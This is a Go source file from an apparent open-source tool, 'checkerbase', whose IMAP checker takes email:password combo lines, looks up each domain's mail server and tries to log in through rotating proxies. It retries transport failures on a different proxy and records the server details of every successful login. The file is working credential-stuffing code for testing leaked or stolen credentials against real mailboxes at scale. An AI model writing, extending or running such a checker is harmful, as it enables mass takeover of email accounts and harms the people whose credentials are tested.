package checker

/*
checkerbase — high-throughput credential checking engine in Go
Copyright (C) 2025  Pepijn van der Stap <checkerbase@vanderstap.info>

This program is free software: you can redistribute it and/or modify
it under the terms of the GNU Affero General Public License as published by
the Free Software Foundation, either version 3 of the License, or
(at your option) any later version.

This program is distributed in the hope that it will be useful,
but WITHOUT ANY WARRANTY; without even the implied warranty of
MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
GNU Affero General Public License for more details.

You should have received a copy of the GNU Affero General Public License
along with this program.  If not, see <https://www.gnu.org/licenses/>.
*/

import (
	"context"
	"crypto/tls"
	"fmt"
	"strings"
	"time"

	imapclient "github.com/emersion/go-imap/client"
	"github.com/emersion/go-sasl"
	"go.uber.org/zap"

	"github.com/x-stp/checkerbase/internal/discovery"
	"github.com/x-stp/checkerbase/internal/proxy"
	"github.com/x-stp/checkerbase/internal/writer"
)

// Credential is one email:password record.
type Credential struct {
	Email    string
	Password string
	Domain   string
}

// IMAPSession is the per-attempt client resource: a dialer bound to this
// attempt's proxy. Connections opened through it are closed within Process;
// Close itself has nothing to release.
type IMAPSession struct {
	dialer proxy.ContextDialer
}

// Close implements the Client contract.
func (s *IMAPSession) Close() error { return nil }

// IMAPChecker validates email:password records against the account's IMAP
// server, located through the discovery service.
type IMAPChecker struct {
	Discovery *discovery.Service
	Log       *zap.SugaredLogger

	// AttemptTimeout bounds one candidate's dial+login exchange.
	AttemptTimeout time.Duration
}

var _ Checker[Credential, *IMAPSession] = (*IMAPChecker)(nil)

// DefaultAttemptTimeout bounds one candidate's dial and login exchange.
const DefaultAttemptTimeout = 15 * time.Second

// QuickValidate rejects lines that cannot be an email:password pair without
// allocating: there must be a ':' separator with an '@' strictly before it.
func (c *IMAPChecker) QuickValidate(line string) bool {
	colon := strings.IndexByte(line, ':')
	if colon <= 0 || colon == len(line)-1 {
		return false
	}

	at := strings.IndexByte(line[:colon], '@')

	return at > 0 && at < colon-1
}

// Parse splits the line into a Credential. The password may itself contain
// ':'; only the first separator counts.
func (c *IMAPChecker) Parse(line string) (Credential, bool) {
	email, password, ok := strings.Cut(line, ":")
	if !ok || email == "" || password == "" {
		return Credential{}, false
	}

	_, domain, ok := strings.Cut(email, "@")
	if !ok || domain == "" || !strings.Contains(domain, ".") {
		return Credential{}, false
	}

	return Credential{
		Email:    email,
		Password: password,
		Domain:   strings.ToLower(domain),
	}, true
}

// CreateClient builds the attempt-scoped session around p.
func (c *IMAPChecker) CreateClient(_ context.Context, p *proxy.Proxy) (*IMAPSession, error) {
	return &IMAPSession{dialer: proxy.Dialer(p)}, nil
}

// Process locates the domain's IMAP servers and attempts to authenticate
// against each candidate in priority order.
func (c *IMAPChecker) Process(ctx context.Context, record Credential, session *IMAPSession) (Result, error) {
	candidates, err := c.Discovery.GetCandidates(ctx, record.Domain)
	if err != nil {
		return Result{}, err
	}
	if len(candidates) == 0 {
		return Result{Outcome: OutcomeIgnored}, nil
	}

	var lastNetErr error
	for _, cand := range candidates {
		if err := ctx.Err(); err != nil {
			return Result{}, err
		}

		ok, err := c.login(ctx, session, cand, record)
		if err != nil {
			if ctx.Err() != nil {
				return Result{}, ctx.Err()
			}
			if IsTransientNetErr(err) {
				// Candidate unreachable; the next one may still answer.
				lastNetErr = err

				continue
			}

			// Post-greeting rejection: the server answered and said no.
			return Result{Outcome: OutcomeFailed}, nil
		}
		if ok {
			if mvErr := c.Discovery.MarkVerified(ctx, record.Domain, cand); mvErr != nil {
				c.Log.Debugw("failed to mark config verified", "domain", record.Domain, "error", mvErr)
			}

			return Result{
				Outcome: OutcomeSuccess,
				Captures: []writer.Capture{
					{Key: "host", Value: cand.Hostname},
					{Key: "port", Value: fmt.Sprintf("%d", cand.Port)},
					{Key: "security", Value: string(cand.Security)},
				},
			}, nil
		}
	}

	if lastNetErr != nil {
		// Every candidate failed at the transport level; worth a retry on a
		// different proxy.
		return Result{Outcome: OutcomeRetry, Cause: lastNetErr}, nil
	}

	return Result{Outcome: OutcomeIgnored}, nil
}

// login dials one candidate and runs SASL PLAIN. Returns (true, nil) on
// authenticated, (false, err) with a transport error, or (false, err) with a
// server rejection; the caller classifies by error kind.
func (c *IMAPChecker) login(ctx context.Context, session *IMAPSession, cand discovery.ServerConfig, record Credential) (bool, error) {
	timeout := c.AttemptTimeout
	if timeout <= 0 {
		timeout = DefaultAttemptTimeout
	}

	actx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	conn, err := session.dialer.DialContext(actx, "tcp", cand.Addr())
	if err != nil {
		return false, err
	}

	deadline := time.Now().Add(timeout)
	_ = conn.SetDeadline(deadline)

	tlsConfig := &tls.Config{ServerName: cand.Hostname}

	var cl *imapclient.Client
	if cand.Security == discovery.SecuritySSL {
		cl, err = imapclient.New(tls.Client(conn, tlsConfig))
	} else {
		cl, err = imapclient.New(conn)
	}
	if err != nil {
		conn.Close()

		return false, err
	}
	defer cl.Logout()

	if cand.Security == discovery.SecuritySTARTTLS {
		if err := cl.StartTLS(tlsConfig); err != nil {
			return false, err
		}
	}

	username := record.Email
	if cand.UsernameFormat == discovery.UsernameLocalPart {
		username, _, _ = strings.Cut(record.Email, "@")
	}

	if err := cl.Authenticate(sasl.NewPlainClient("", username, record.Password)); err != nil {
		// Fall back to LOGIN for servers without AUTH=PLAIN.
		if loginErr := cl.Login(username, record.Password); loginErr != nil {
			return false, authError{cause: loginErr}
		}
	}

	return true, nil
}

// authError marks a post-greeting server rejection so IsTransient keeps it
// out of the retry path.
type authError struct {
	cause error
}

func (e authError) Error() string { return "authentication rejected: " + e.cause.Error() }
func (e authError) Unwrap() error { return e.cause }

// IsTransient classifies Process errors for the engine's retry decision.
func (c *IMAPChecker) IsTransient(err error) bool {
	if _, ok := err.(authError); ok {
		return false
	}

	return IsTransientNetErr(err)
}
